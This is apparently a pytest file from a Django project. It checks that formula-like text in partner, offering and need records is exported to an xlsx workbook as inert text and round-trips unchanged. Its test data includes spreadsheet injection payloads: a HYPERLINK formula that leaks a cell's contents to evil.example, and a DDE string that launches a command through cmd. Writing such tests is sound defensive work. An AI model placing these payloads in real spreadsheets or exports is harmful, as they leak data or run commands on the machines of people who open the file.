"""Text that looks like a spreadsheet formula is exported as text: opening the exported
workbook runs nothing, and the text comes back unchanged when imported again."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command

from tests.factories import NeedFactory, OfferingFactory, PartnerFactory, make_tree

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_formula_like_text_is_exported_as_text(tmp_path: Path) -> None:
    tree = make_tree()
    for i, text in enumerate(FORMULAS):
        partner = PartnerFactory.create(
            code=f"P-F{i}", community=tree["C11"], name=text, description=text, contact_name=text
        )
        OfferingFactory.create(code=f"O-F{i}", partner=partner, title=text, description=text)
        NeedFactory.create(code=f"N-F{i}", community=tree["C11"], title=text, description=text)
    out = tmp_path / "region.xlsx"
    call_command("export_region", "--output", str(out))

    book = openpyxl.load_workbook(io.BytesIO(out.read_bytes()))
    seen: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    assert set(FORMULAS) <= seen
